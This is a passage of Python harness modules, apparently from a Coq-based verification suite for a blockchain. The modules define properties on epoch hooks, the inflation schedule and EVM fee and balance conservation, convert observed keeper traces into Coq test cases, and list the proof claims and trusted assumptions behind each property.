                 "duplicated / invalid / already stored identifiers — at any point, through the function or through "
                 "AppModule.InitGenesis which discards the error): every theorem above is proved over such histories, every op "
                 "that is not a block keeps every stored info unchanged and calls no hook (P_keep, part of P_trace and of the "
                 "checker), C14_init_keeps_every_stored_info / _init_on_initialised_store_is_identity / "
                 "_init_invalid_genesis_writes_nothing; the variant in which InitGenesis writes directly (run_v false) is refuted: "
                 "C14_monotone_refuted_for_unguarded_init, C14_hooks_once_refuted_for_unguarded_init, "
                 "C14_init_keep_refuted_for_unguarded_init; generated facts: InitGenesis reaches the keeper only through "
                 "AddEpochInfo, AddEpochInfo refuses a stored identifier before writing, AppModule.InitGenesis discards the "
                 "error. The model is run against the real BeginBlocker (direct and through the whole "
                 "application BeginBlock) with recording hooks on generated time sequences, and the proved-sound checker of the "
                 "per-block property is evaluated on the implementation traces; hook registration in app/ is re-extracted on "
                 "every run (Gen/C14Facts.v) together with the absence of recover in x/epochs and the shape of the MultiEpochHooks "
                 "loops, and each registered hook is proved to see every call once, in order."),
        "design_ref": "DESIGN.md §5 C14",
    },
    "level_note": ("Hypotheses: imported epoch infos are well formed (not counting => epoch 0; counting => StartTime <= "
                   "CurrentEpochStartTime <= now) — preserved by every block, true of every fresh definition, shown necessary by "
                   "the _refuted theorems; block times do not decrease for the per-block iff (not needed for exactly-once / "
                   "monotone). Not modelled: uint64/int64 wrap, time.Time range, DeleteEpochInfo, hook bodies. Trusted: Coq "
                   "kernel + vm_compute, the driver's two recording hooks, trace->Coq rendering (identifier ranks), the go/ast "
                   "extractor harness/gen/c14."),
    "technique": "Coq proof (induction over op histories, per-identifier projection of the hook trace) + differential "
                 "correspondence on BeginBlocker / AddEpochInfo / InitGenesis (function, module, RunMigrations) traces with "
                 "recording hooks + generated hook-registration, store-key and initialisation-path facts",
}
