"""C13 — inflation mints exactly the scheduled amount and distributes all of it."""

ID = "C13"
HARNESS_TEST = "TestC13"
GEN = "c13"
COQ_MODEL = ["C13/Check.v", "Gen/C13Facts.v"]
COQ_PROOF_DEPS = ["C13/Arith.v", "C13/Proofs.v"]
COQ_OBLIG = ["C13/Property.v", "Gen/C13Oblig.v"]
CASES_HEADER = "Require Import Nib.C13.Model Nib.C13.Spec Nib.C13.Check."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch"
VIOLATES_FN = "violates"
RULE = ("cases = a module state (fresh chain / module added to a running chain / exported running chain with c enabled epochs "
        "so far; EpochsPerPeriod in {1,2,3,5,7,30}, MaxPeriod in {0,1,2,3,4,6,96}; 7 polynomials incl. the default one, one below "
        "1 unibi per epoch; fixed and random distributions summing to 1) and a history of 6..70 consecutive day-epoch ends "
        "(direct AfterEpochEnd or, 1 case in 4, produced by epochs.BeginBlocker one day apart) reaching past MaxPeriod, mixed "
        "with toggles (1 in 8 by a non-sudoer), parameter edits and other identifiers' epoch ends; 1 case in 4 is 'wild': "
        "inconsistent counters (1 case in 7 of all: counters ahead of the epoch number), never-written sequences, polynomial not positive, stray module balance, gaps in the epoch "
        "numbers, edits of EpochsPerPeriod / MaxPeriod, invalid edits; "
        "THE SUDO ROOT (strategic-reserve recipient) is part of every case: 5 in 11 the genesis root throughout, 4 in 11 operable "
        "roots (ordinary accounts a0..a2, the x/gov module account — weight 5 of 9) at the start and handed over by MsgChangeRoot "
        "in mid-history (1 op in 18; 1 in 6 of them by a stranger), 2 in 11 any account incl. every other module account of the "
        "application (blocked recipients); the bank's blocked-recipient table is probed from the real application on every run; "
        "non-trivial = inside the property's precondition with at least one period roll-over, at least 3 enabled and 1 disabled "
        "day epoch; distinct = distinct input")
ASSUMPTIONS = [
    "the schedule predicate is evaluated on traces inside the theorem's hypotheses (Check.pre: Consistent start, consecutive "
    "day epochs, fixed EpochsPerPeriod / MaxPeriod, provision positive at every scheduled period, valid proportions, empty "
    "module account, no wrap-around); the distribution predicate (everything minted is distributed, module account swept) is "
    "evaluated on EVERY trace; every trace is compared with the model",
    "the driver probes once per run whether a positive provision below one unibi panics (it did before fix: 2259f46); the "
    "model follows the probe, the schedule predicate demands 'no panic', so such a tree is reported as a violation",
    "the sudo root exists; schedule / distribution / roll-over predicates are evaluated at day-epoch ends at which the sudo root "
    "is an operable account (ordinary account or the x/gov module account) WITHOUT looking at the probed blocked table — a tree "
    "whose bank refuses such a root is a violation; for any other module account as root (MsgChangeRoot accepts it, nobody can "
    "sign as root afterwards) only the correspondence with the model's failing-transfer branch is checked; the 'strategic' "
    "observable is the change of the root's balance net of the change published under another heading when the root is the fee "
    "collector / distribution / inflation module account itself; no LegacyDec overflow (315 bits)",
]
TRUSTED = ["coq/Lib/Dec.v as a description of cosmossdk.io/math LegacyDec (exercised by every mint of every case)"]


# Big numerals are slow to parse in Coq 8.16 (about 1 ms each): every distinct big number of a case is bound once by a
# `let` in front of the case term and referred to by name.
_tab = {}


def z(n):
    n = int(n)
    if -1000 < n < 1000:
        return "(%d)%%Z" % n
    if n not in _tab:
        _tab[n] = "a%d" % len(_tab)
    return _tab[n]


def _with_lets(term):
    lets = "".join("let %s := (%d)%%Z in " % (name, n) for n, name in sorted(_tab.items(), key=lambda kv: int(kv[1][1:])))
    _tab.clear()
    return "(%s%s)" % (lets, term)


def zl(xs):
    return "[" + "; ".join(z(x) for x in xs) + "]"


def b(x):
    return "true" if x else "false"


def _params(p):
    return ("{| p_enabled := %s; p_started := %s; p_factors := %s; p_staking := %s; p_community := %s; p_strategic := %s; "
            "p_epp := %s; p_ppy := %s; p_max := %s |}" % (b(p["enabled"]), b(p["started"]), zl(p["factors"] or []),
                                                        z(p["dist"][0]), z(p["dist"][1]), z(p["dist"][2]),
                                                        z(p["epp"]), z(p["ppy"]), z(p["max"])))


def _root(r):
    """'a<k>' (ordinary account k; '' = a0) or 'm:<module account name>'"""
    r = r or "a0"
    if r.startswith("m:"):
        name = r[2:]
        if not name or any(not (ch.isalnum() or ch in "_-") for ch in name):
            raise ValueError("bad module account name %r" % name)
        return '(RMod "%s"%%string)' % name
    if r.startswith("a") and r[1:].isdigit():
        return "(RAcct %d)" % int(r[1:])
    raise ValueError("bad root id %r" % r)


def _strs(xs):
    for x in xs:
        if any(not (ch.isalnum() or ch in "_-") for ch in x):
            raise ValueError("bad module account name %r" % x)
    return "[" + "; ".join('"%s"%%string' % x for x in xs) + "]"


def _opt(x, f=z):
    return "None" if x is None else "(Some %s)" % f(x)


def _op(op):
    k = op["op"]
    if k == "end":
        return "EpochEnd %s %s" % (b(op.get("day")), z(op.get("e", 0)))
    if k == "toggle":
        return "Toggle %s %s" % (b(op.get("auth")), b(op.get("b")))
    if k == "edit":
        d = op.get("dist")
        ed = "{| ed_factors := %s; ed_dist := %s; ed_epp := %s; ed_ppy := %s; ed_max := %s |}" % (
            _opt(op.get("factors"), zl), "None" if d is None else "(Some (%s, %s, %s))" % (z(d[0]), z(d[1]), z(d[2])),
            _opt(op.get("epp")), _opt(op.get("ppy")), _opt(op.get("max")))
        return "Edit %s %s" % (b(op.get("auth")), ed)
    if k == "chroot":
        return "ChangeRoot %s %s" % (b(op.get("auth")), _root(op.get("root")))
    return "Fund %s" % z(op.get("amt", 0))


def _out(o):
    return ("{| o_ok := %s; o_panic := %s; o_minted := %s; o_staking := %s; o_community := %s; o_strategic := %s; o_module := %s; "
            "o_period := %s; o_skipped := %s |}" % (b(o["ok"]), b(o.get("panic")), z(o["minted"]), z(o["staking"]), z(o["community"]),
                                                   z(o["strategic"]), z(o["module"]), z(o["period"]), z(o["skipped"])))


def to_coq_case(rec):
    _tab.clear()
    return _with_lets(_to_coq_case(rec))


def _to_coq_case(rec):
    i, o = rec["input"], rec["obs"]
    unset = i.get("period") is None or i.get("skipped") is None
    init = "{| s_params := %s; s_period := %s; s_skipped := %s; s_module := %s; s_root := %s |}" % (
        _params(o["params"]), "None" if unset else "(Some %s)" % z(o["period"]),
        "None" if unset else "(Some %s)" % z(o["skipped"]), z(o["module"]), _root(o.get("root")))
    tr = "; ".join("(%s, %s)" % (_op(op), _out(ob)) for op, ob in zip(i["ops"], o["ops"]))
    return "{| c_zp := %s; c_blocked := %s; c_init := %s; c_tr := [%s] |}" % (
        b(o.get("zero_mint_panics")), _strs(o.get("blocked") or []), init, tr)


def _facts(rec):
    i, o = rec["input"], rec["obs"]
    enabled = i["params"]["enabled"]
    f = {"enabled_days": 0, "disabled_days": 0, "rollovers": 0, "mints": 0, "zero_mints_enabled": 0, "toggles": 0,
         "edits_ok": 0, "rejected": 0, "other_ids": 0, "funds": 0, "past_end": 0, "PANIC": 0, "root_changes": 0,
         "mints_gov_root": 0, "mints_blocked_root": 0}
    root = o.get("root") or "a0"
    blocked = set(o.get("blocked") or [])
    period = o["period"]
    mx = i["params"]["max"]
    for op, ob in zip(i["ops"], o["ops"]):
        k = op["op"]
        if ob.get("panic"):
            f["PANIC"] += 1
        if k == "end" and op.get("day"):
            if enabled:
                f["enabled_days"] += 1
                if ob["minted"] > 0:
                    f["mints"] += 1
                    if root == "m:gov":
                        f["mints_gov_root"] += 1
                    elif root.startswith("m:") and root[2:] in blocked:
                        f["mints_blocked_root"] += 1
                else:
                    f["zero_mints_enabled"] += 1
                if period >= mx:
                    f["past_end"] += 1
            else:
                f["disabled_days"] += 1
            if ob["period"] != period:
                f["rollovers"] += 1
        elif k == "end":
            f["other_ids"] += 1
        elif k == "toggle":
            if ob["ok"]:
                enabled = bool(op.get("b"))
                f["toggles"] += 1
            else:
                f["rejected"] += 1
        elif k == "edit":
            if ob["ok"]:
                f["edits_ok"] += 1
                if op.get("max") is not None:
                    mx = op["max"]
            else:
                f["rejected"] += 1
        elif k == "fund":
            f["funds"] += 1
        elif k == "chroot":
            if ob["ok"]:
                root = op.get("root") or "a0"
                f["root_changes"] += 1
            else:
                f["rejected"] += 1
        period = ob["period"]
    return f


def _operable(r):
    r = r or "a0"
    return not r.startswith("m:") or r == "m:gov"


def _consistent_start(rec):
    """python mirror of the *shape* of Check.pre, only for the histogram / non-trivial share"""
    i, o = rec["input"], rec["obs"]
    if not _operable(o.get("root")) or any(op["op"] == "chroot" and op.get("auth") and not _operable(op.get("root")) for op in i["ops"]):
        return False
    if i.get("period") is None or i.get("skipped") is None or o["module"] != 0:
        return False
    p = o["params"]
    first = next((op["e"] for op in i["ops"] if op["op"] == "end" and op.get("day")), None)
    if first is None or p["epp"] == 0:
        return False
    n = first - o["skipped"]
    if n < 1 or (p["enabled"] and not p["started"]) or (not p["started"] and n != 1):
        return False
    if o["period"] != min((n - 1) // p["epp"], p["max"]):
        return False
    e = first
    for op in i["ops"]:
        if op["op"] == "end" and op.get("day"):
            if op["e"] != e:
                return False
            e += 1
        if op["op"] == "fund" or (op["op"] == "edit" and (op.get("epp") is not None or op.get("max") is not None)):
            return False
    return True


def nontrivial(rec):
    f = _facts(rec)
    return _consistent_start(rec) and f["rollovers"] >= 1 and f["mints"] >= 3 and f["disabled_days"] >= 1


def classify(rec):
    i = rec["input"]
    f = _facts(rec)
    o = rec["obs"]
    first = next((op["e"] for op in i["ops"] if op["op"] == "end" and op.get("day")), None)
    ahead = first is not None and i.get("period") is not None and o["params"]["epp"] * o["period"] + o["skipped"] > first
    ks = (["counters-ahead-of-epoch-number"] if ahead else []) + ["mode:" + i["mode"], "epp=%d" % i["params"]["epp"], "max=%d" % i["params"]["max"],
          "poly-degree=%d" % (len(i["params"]["factors"]) - 1),
          "consistent-start" if _consistent_start(rec) else "outside-precondition"]
    if i.get("period") is None:
        ks.append("sequences-never-written")
    ks.append("root-at-start:" + ("ordinary" if not (o.get("root") or "a0").startswith("m:") else
                                  "gov" if o.get("root") == "m:gov" else "other-module-account"))
    for k, v in f.items():
        if v:
            ks.append(k if k in ("past_end", "rollovers", "funds", "rejected", "other_ids", "zero_mints_enabled", "root_changes",
                                 "mints_gov_root", "mints_blocked_root") or k == "PANIC" else
                      "%s=%s" % (k, "1-2" if v < 3 else "3-9" if v < 10 else "10+"))
    return ks


def describe(rec):
    return {"input": rec["input"], "observed": rec["obs"]}


def signature(rec):
    i = rec["input"]
    roots = {(rec["obs"].get("root") or "a0")} | {op.get("root") or "a0" for op in i["ops"] if op["op"] == "chroot" and op.get("auth")}
    return {"kind": "inflation-schedule", "mode": i["mode"], "consistent_start": _consistent_start(rec),
            "ops": sorted({op["op"] for op in i["ops"]}),
            "roots": sorted({"ordinary" if not r.startswith("m:") else "gov" if r == "m:gov" else "other-module-account" for r in roots})}


def input_size(inp):
    return len(inp["ops"])


def shrink_candidates(inp):
    """prefixes first (a failing history usually fails early), then single non-day ops, then single day ends
    (renumbering the later ones so that the epoch numbers stay consecutive)"""
    out = []
    ops = inp["ops"]
    n = len(ops)
    for k in (1, 2, 3, 4, 6, 8, 12, 16, 24, 32, 48):
        if k < n:
            out.append(dict(inp, ops=ops[:k]))
    singles = [i for i in range(n) if not (ops[i]["op"] == "end" and ops[i].get("day"))]
    days = [i for i in range(n) if ops[i]["op"] == "end" and ops[i].get("day")]
    for i in (singles + days)[:45]:
        rest = [dict(o) for o in ops[i + 1:]]
        if ops[i]["op"] == "end" and ops[i].get("day"):
            for o in rest:
                if o["op"] == "end" and o.get("day"):
                    o["e"] -= 1
        if n > 1:
            out.append(dict(inp, ops=ops[:i] + rest))
    return out


MANIFEST = {
    "level_claimed": {
        "category": "proof",
        "text": ("Coq refinement theorem C13_period_tracks_schedule: from every Consistent state and for EVERY history of "
                 "consecutive day-epoch ends, toggles (by anybody), parameter edits keeping EpochsPerPeriod/MaxPeriod and other "
                 "identifiers' epoch ends, the effects of the modelled AfterEpochEnd / MintAndAllocateInflation / "
                 "ToggleInflation / EditInflationParams code (explicit uint64/int64 roll-over test, LegacyDec arithmetic, "
                 "collections.Sequence) equal, op by op, those of the closed-form schedule: the (c+1)-th enabled day epoch mints "
                 "floor(polynomial(floor(c/EPP))*10^6/EPP), nothing from MaxPeriod on, disabled epochs mint nothing and do not "
                 "advance c, staking/community get the floors of their proportions, the sudo root the remainder, the module "
                 "account ends empty, CurrentPeriod = min(c/EPP, MaxPeriod). The sudo root is part of state and history (any operable "
                 "account — ordinary or the x/gov module account — handed over by MsgChangeRoot in mid-history) and the theorem holds for "
                 "every bank blocked-recipient table B with wiring_ok B (every operable root can receive); for the table of the tree "
                 "under test — re-extracted on every run by constructing the application and asking its bank keeper about every module "
                 "account — that is obligation C13_operable_roots_can_receive; C13_blocked_root_partial_effects states the exact "
                 "non-atomic effects of the failing transfer (mint + staking + community done, strategic share left in the module "
                 "account, no roll-over) and C13_governance_root_blocked_refuted refutes the property for every wiring that blocks "
                 "x/gov. Companion theorems: C13_all_distributed for ANY "
                 "state, disabled epochs, genesis / fresh-start consistency, catch-up and waiting lemmas for inconsistent "
                 "counters together with two _refuted theorems showing the closed form is false there, and "
                 "C13_sub_unit_provision_panics_before_fix (defect found by this check, repaired by fix: 2259f46: a provision in "
                 "(0,1) unibi panicked the hook) and C13_distributed_along_every_history (the distribution for EVERY state). Default "
                 "parameters are re-printed from the linked packages on every run and proved to give >= 1 unibi per epoch in "
                 "all 96 periods, so edit-free histories from the default genesis follow the schedule unconditionally. The model "
                 "is compared with the real keepers on generated histories and the proved-sound schedule checker is evaluated "
                 "on the implementation traces."),
        "design_ref": "DESIGN.md §5 C13",
    },
    "level_note": ("Hypotheses: Consistent start (necessary: two _refuted theorems; established by genesis and by the first "
                   "disabled epoch of a never-started module), EPP/MaxPeriod fixed per history, provision positive at the "
                   "scheduled period, valid proportions, empty module account, numbers < 2^62, no LegacyDec overflow, sudo root an operable "
                   "account (ordinary or x/gov) — with any other module account as root (accepted by MsgChangeRoot, all blocked on "
                   "this tree) the property is false: boundary reported, model branch proved and compared. The polynomial "
                   "evaluation (Lib/Dec.v) is shared by model and schedule: its agreement with Go is correspondence evidence, "
                   "not a theorem. Trusted: Coq kernel + vm_compute, Lib/Dec.v, the driver's balance snapshots, "
                   "trace->Coq rendering, harness/gen/c13 (prints constants of the linked packages)."),
    "technique": "Coq proof (refinement of the code's epoch/skipped/period bookkeeping to the closed-form schedule, by "
                 "induction over histories, sudo root and bank blocked-recipient table as parameters) + differential "
                 "correspondence on keeper traces of the real application wiring + generated default constants, roll-over "
                 "expression and bank blocked-recipient table",
}
