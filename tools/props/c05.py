"""C05 — EVM transactions conserve NIBI and charge exactly the gas used."""
import json

ID = "C05"
GEN = "c05"
HARNESS_TEST = "TestC05"
COQ_MODEL = ["C05/Check.v", "Gen/C05Facts.v"]
COQ_PROOF_DEPS = ["C05/Proofs.v", "C05/ProofsBundle.v", "C05/ProofsX.v", "C05/ProofsNonvacuous.v", "C05/ProofsXNonvacuous.v"]
COQ_OBLIG = ["C05/Property.v", "Gen/C05Oblig.v"]
CASES_HEADER = "Require Import Nib.C05.Model Nib.C05.ModelX Nib.C05.Spec Nib.C05.Facts Nib.C05.Check Nib.Gen.C05Facts."
CASE_TYPE = "case"
MISMATCH_FN = "mismatch (k_sync_only_evm_addresses current_facts) (k_journal_before_flush current_facts)"
VIOLATES_FN = "violates"
RULE = ("case = 1-3 Ethereum txs of a fresh signer (fund 4e5..3e15 unibi), each in its own block through "
        "BeginBlock/DeliverTx/EndBlock/Commit: legacy / access-list / dynamic-fee; gas price / tip / cap incl. 0, below base fee, "
        "base fee, non-multiples of 10^12, huge; gas limit below/at/above intrinsic, ample, block limit, over it; value 0, "
        "sub-unibi, whole, with remainder, ~whole balance; target EOA, contract X (keep, revert, loop, forward w wei, "
        "selfdestruct to B / to self, forward+revert, FunToken precompile bankMsgSend, the same + revert), contract Y "
        "(frame that reverts after a precompile call), driver contract D calling X 2-5 times in one tx (self-destructs to B/R/D/self "
        "interleaved with payments into X and transfers out), contract creation (ok / reverting init), script contract Z (~15% of the txs: "
        "a generated script of value transfers to B / R / signer / the bank-BLOCKED module accounts x/distribution and fee collector, "
        "FunToken whoAmI / bankMsgSend calls, Wasm.execute on a reflect.wasm instance owned by Z (funds in unibi, bank MsgSend of unibi dispatched by the "
        "wasm contract, a dispatched MsgConvertCoinToEvm of unibi = refused inside a running EVM tx, followed by further bank sends) and self-calls with a sub-script that STOPs or REVERTs, nesting <= 3, top level STOP or "
        "REVERT; half of them contain a credit to a blocked account followed by a precompile call in the same live frame = the "
        "pre-precompile flush fails half-way, in a reverted frame / a reverted tx / kept frames). Measured around DeliverTx: "
        "bank supply(unibi), balances of 19 scenario accounts (incl. the EVM module account), GasUsed, VmError, BlockedAddr of each account. non-trivial = passed the ante handler AND "
        "(effective price not a multiple of 10^12 or value with sub-unibi remainder or target has code or failed after ante); "
        "distinct = distinct input")
ASSUMPTIONS = [
    "MsgEthereumTxResponse.GasUsed (EventEthereumTx.gas_used) and core.IntrinsicGas are oracle values: EVM gas metering is not modelled",
    "which state changes a contract call performs when it succeeds (script of wei transfers / self-destructs) is scenario knowledge "
    "of the driver's hand-assembled contracts, not derived from the EVM; for the script contract Z only WHAT the code does (transfers, "
    "frames and how they end, precompile calls) is given - which calls fail, what a reverted frame leaves and the net effects are computed "
    "by the model (ModelX.v)",
    "no account outside the 19 measured ones changes its unibi balance in a measured tx (checked: supply delta = sum of measured deltas)",
]
TRUSTED = ["go-ethereum core.IntrinsicGas, tx signing; bank keeper GetSupply/GetBalance as the measuring instrument"]
HARNESS_TIMEOUT = {"quick": 600, "thorough": 7200}

K = 10 ** 12
_TY = ["Legacy", "AccessList", "DynamicFee"]


def _z(x):
    return "(%d)%%Z" % int(x)


def _script(tx, d, o, xwei_now=None):
    """effects of a successful EVM run (beyond the top-level value transfer), from scenario knowledge"""
    if d["expect"] != "ok":
        return None
    value = int(d["value"])
    vn = value // K
    before = [int(x) for x in o["before"]]
    tgt, mode = tx["target"], tx["mode"]
    if tgt in ("eoa", "create"):
        return []
    if tgt == "w":
        # wasm precompile execute(W, msg, funds): the bank keeper moves wamt unibi signer -> W (32-byte address)
        amt = int(tx.get("wamt") or 0)
        return ["OTransfer 0 14 %s" % _z(amt * K)] if 0 < amt <= before[0] else []
    if tgt == "f":
        # factory: pays fv to the address of its next creation, then creates there with endowment fe
        fwei = (before[12] + vn) * K
        ops = []
        fv, fe = int(tx.get("fv") or 0), int(tx.get("fe") or 0)
        if 0 < fv <= fwei:
            ops.append("OTransfer 12 13 %s" % _z(fv)); fwei -= fv
        if tx.get("finit") == "ok" and 0 < fe <= fwei:
            ops.append("OTransfer 12 13 %s" % _z(fe))
        return ops
    if tgt == "d":
        # D calls X once per step; simulate wei balances to know which inner calls can pay their value
        ben = {"B": 4, "R": 2, "D": 9, "X": 3}
        wei = {i: before[i] * K for i in range(len(before))}
        wei[9] += vn * K
        ops, dead = [], False
        for st in tx.get("steps") or []:
            val, w, b, mode = int(st["val"]), int(st["w"]), ben[st["benef"]], st["mode"]
            if val > wei[9]:
                continue                      # CALL refused: X does not run
            if mode in (1, 6):
                continue                      # X reverts: the value comes back
            if val > 0:
                ops.append("OTransfer 9 3 %s" % _z(val)); wei[9] -= val; wei[3] += val
            if mode == 3 and w <= wei[3]:
                if w > 0:
                    ops.append("OTransfer 3 %d %s" % (b, _z(w)))
                wei[3] -= w; wei[b] += w
            elif mode in (4, 5):
                b2 = 3 if mode == 5 else b
                ops.append("OSuicide 3 %d" % b2)
                if b2 != 3:
                    wei[b2] += wei[3]
                wei[3] = 0
                dead = True
        if dead and wei[3] > 0:
            ops.append("OSuicide 3 3")       # what a destructed account still holds at the end of the tx is deleted with it
        return ops
    if tgt == "y":
        return ["OTransfer 6 7 %s" % _z(5 * K)] if before[6] >= 5 else []
    w = int(tx["w"] or "0")
    xwei = (before[3] + vn) * K if xwei_now is None else xwei_now + vn * K
    if mode == 0:
        return []
    if mode == 3:
        return ["OTransfer 3 4 %s" % _z(w)] if w <= xwei else []
    if mode == 4:
        return ["OSuicide 3 4"]
    if mode == 5:
        return ["OSuicide 3 3"]
    pto = {"": 4, "B": 4, "S": 0, "X": 3, "R": 2}[tx.get("pto") or ""]
    if mode == 7:
        return ["OTransfer 3 %d %s" % (pto, _z(w * K))] if 0 < w <= before[3] + vn else []
    if mode == 9:
        ops, xw = [], xwei
        if 0 < w <= xw:
            ops.append("OTransfer 3 %d %s" % (pto, _z(w)))
            if pto != 3:
                xw -= w
        pamt = int(tx.get("pamt") or 0)
        if 0 < pamt * K <= xw:
            ops.append("OTransfer 3 %d %s" % (pto, _z(pamt * K)))
        return ops
    return None


_ZID = {"B": 4, "R": 2, "S": 0, "X": 3, "DIST": 18, "FC": 1, "Z": 17}
_Z = 17
_RW = 19


def _xscript(steps):
    """what contract Z does, step by step (ModelX.xop): which calls fail and what a reverted frame leaves is computed in Coq"""
    out = []
    for st in steps or []:
        if st["op"] == "t":
            out.append("XOp (OTransfer %d %d %s)" % (_Z, _ZID.get(st.get("to") or "B", 4), _z(st.get("w") or 0)))
        elif st["op"] == "p":
            if st.get("q"):
                out.append("XPre [] false")
            else:
                out.append("XPre [(%d%%nat, %d%%nat, %s)] false" % (_Z, _ZID.get(st.get("to") or "B", 4), _z(st.get("w") or 0)))
        elif st["op"] == "w":
            # Wasm.execute(RW, reflect_msg{...}, funds): funds Z -> RW, then the bank sends RW dispatches; a dispatched
            # MsgConvertCoinToEvm is refused inside a running EVM tx: the call fails as a whole
            sends = []
            if int(st.get("funds") or 0) > 0:
                sends.append("(%d%%nat, %d%%nat, %s)" % (_Z, _RW, _z(st["funds"])))
            for sd in st.get("sends") or []:
                sends.append("(%d%%nat, %d%%nat, %s)" % (_RW, _ZID.get(sd.get("to") or "B", 4), _z(sd.get("w") or 0)))
            # (reflect.wasm itself rejects an empty message list: a failing call as well)
            refuse = bool(st.get("conv")) or not (st.get("sends") or [])
            out.append("XPre [%s] %s" % ("; ".join(sends), "true" if refuse else "false"))
        else:
            out.append("XFrame %s %s" % (_xscript(st.get("body")), "false" if st.get("rev") else "true"))
    return "[" + "; ".join(out) + "]"


seen_refused = [False]


def _zfeatures(steps, reverted, acc, pending=False):
    """class markers of a Z script (histogram only): a credit to a blocked module account that is still pending when a
    precompile is called in the same live frame -> the pre-precompile flush fails half-way"""
    for st in steps or []:
        if st["op"] == "t" and st.get("to") in ("DIST", "FC") and int(st.get("w") or 0) >= K:
            pending = True
        elif st["op"] in ("p", "w"):
            if st["op"] == "w":
                acc.add("z:wasm-execute/%s%s" % ("DISPATCHES-REFUSED-EVM-MSG" if st.get("conv") else "bank-sends-only", "/in-reverted-frame" if reverted else ""))
                if seen_refused[0] and not st.get("conv"):
                    acc.add("z:bank-send-after-refused-dispatch")
                if st.get("conv"):
                    seen_refused[0] = True
            elif seen_refused[0] and not st.get("q"):
                acc.add("z:bank-send-after-refused-dispatch")
            acc.add("z:precompile-call" + ("/in-reverted-frame" if reverted else ""))
            if pending:
                acc.add("z:FAILING-FLUSH(blocked-credit-pending)/" + ("frame-reverts" if reverted else "frame-kept(final-commit-fails)"))
        elif st["op"] == "f":
            inner = _zfeatures(st.get("body"), reverted or bool(st.get("rev")), acc, pending)
            if not st.get("rev"):
                pending = inner
    return pending


def _outcome(o):
    if not o["ante"]:
        return "Rejected"
    if o["code"] != 0:
        return "MsgErr"
    return "VmErr" if o["vmerr"] else "Ok"


def _etx(tx, d, sc, gasused):
    evm = "EvmFail" if sc is None else "(EvmOk [%s])" % "; ".join(sc)
    fee = "{| f_type := %s; f_gas_price := %s; f_tip := %s; f_cap := %s |}" % (_TY[tx["ty"]], _z(tx["gp"]), _z(tx["tip"]), _z(tx["cap"]))
    return ("{| t_fee := %s; t_gas := %s; t_value := %s; t_to := %d; t_intrinsic := %s; t_evm := %s; t_gas_used := %s |}"
            % (fee, _z(d["gas"]), _z(d["value"]), d["to"], _z(d["intrinsic"]), evm, _z(max(gasused, 0))))


def _is_bundle(tx):
    return bool(tx.get("bundle"))


def _boutcome(o):
    if not o["ante"]:
        return "BRejected"
    if o["code"] != 0:
        return "BMsgErr"
    return "(BDone [%s])" % "; ".join("VmErr" if v else "Ok" for v in o["vmerr_list"])


def _obundle(tx, d, o):
    subs, ders = tx["bundle"], d["msgs"]
    gl, vl = o.get("gasused_list") or [], o.get("vmerr_list") or []
    xwei = int(o["before"][3]) * K
    items = []
    for i, (sub, sd) in enumerate(zip(subs, ders)):
        sc = _script(sub, sd, o, xwei_now=xwei)
        ran_ok = i < len(vl) and not vl[i] and sc is not None
        if ran_ok and sub["target"] == "x":
            xwei += (int(sd["value"]) // K) * K
            if sub["mode"] == 3 and sc:
                xwei -= int(sub["w"])
        items.append("(%d%%nat, %s)" % (sd["signer"], _etx(sub, sd, sc, gl[i] if i < len(gl) else 0)))
    return ("{| ob_base_fee := %s; ob_block_gas := %s; ob_msgs := [%s]; ob_out := %s;\n      ob_before := [%s]; ob_after := [%s]; "
            "ob_supply_before := %s; ob_supply_after := %s |}"
            % (_z(d["basefee"]), _z(d["blockgas"]), ";\n        ".join(items), _boutcome(o),
               "; ".join(_z(x) for x in o["before"]), "; ".join(_z(x) for x in o["after"]),
               _z(o["supply_before"]), _z(o["supply_after"])))


def _otx(tx, d, o):
    sc = _script(tx, d, o)
    etx = _etx(tx, d, sc, o["gasused"])
    # a bank send to the 32-byte address W is mirrored by SyncStateDBWithAccount into the account of its last 20 bytes
    trunc = "[(14%nat, 15%nat)]" if (tx["target"] == "w" and sc) else "[]"
    ox = "None"
    if tx["target"] == "z":
        # the top-level frame is kept unless the script ends in REVERT or the gas does not reach the first opcode
        ox = "(Some (%s, %s))" % (_xscript(tx.get("zsteps")), "true" if d["expect"] == "ok" else "false")
    blocked = "[%s]" % "; ".join("%d%%nat" % i for i in (d.get("blocked") or []))
    return ("{| o_base_fee := %s; o_block_gas := %s; o_tx := %s; o_out := %s; o_trunc := %s; o_x := %s; o_blocked := %s;\n      o_before := [%s]; o_after := [%s]; "
            "o_supply_before := %s; o_supply_after := %s |}"
            % (_z(d["basefee"]), _z(d["blockgas"]), etx, _outcome(o), trunc, ox, blocked,
               "; ".join(_z(x) for x in o["before"]), "; ".join(_z(x) for x in o["after"]),
               _z(o["supply_before"]), _z(o["supply_after"])))


def _triples(rec):
    return list(zip(rec["input"]["txs"], rec["der"], rec["obs"]))


def _flat(rec):
    """(message spec, derived, tx obs, is_bundle_member) for every message of every tx"""
    for tx, d, o in _triples(rec):
        if _is_bundle(tx):
            for sub, sd in zip(tx["bundle"], d["msgs"]):
                yield sub, sd, o, True
        else:
            yield tx, d, o, False


def to_coq_case(rec):
    singles = [_otx(tx, d, o) for tx, d, o in _triples(rec) if not _is_bundle(tx)]
    bundles = [_obundle(tx, d, o) for tx, d, o in _triples(rec) if _is_bundle(tx)]
    return "([%s],\n    [%s])" % (";\n    ".join(singles), ";\n    ".join(bundles))


def _eff_price(tx, base):
    if tx["ty"] == 2:
        return max(base, min(int(tx["tip"]) + base, int(tx["cap"])))
    return max(int(tx["gp"]), base)


def nontrivial(rec):
    for tx, d, o, inb in _flat(rec):
        if not o["ante"]:
            continue
        if inb:
            return True
        p = _eff_price(tx, int(d["basefee"]))
        if p % K or int(d["value"]) % K or tx["target"] != "eoa" or o["code"] != 0 or o["vmerr"]:
            return True
    return False


def classify(rec):
    ks = ["txs=%d" % len(rec["input"]["txs"])]
    for tx, d, o in _triples(rec):
        if _is_bundle(tx):
            sg = [sd["signer"] for sd in d["msgs"]]
            ks.append("bundle:msgs=%d/signers=%d/%s" % (len(sg), len(set(sg)), _boutcome(o).split(" ")[0].strip("(")))
    for tx, d, o, inb in _flat(rec):
        if not inb:
            ks.append("outcome=" + _outcome(o))
        ks.append("type=%d" % tx["ty"])
        ks.append("gas=" + tx["gasmode"])
        ks.append("target=" + tx["target"] + ("/mode%d" % tx["mode"] if tx["target"] in ("x", "create") else ""))
        if tx["target"] == "x" and tx["mode"] in (7, 8, 9):
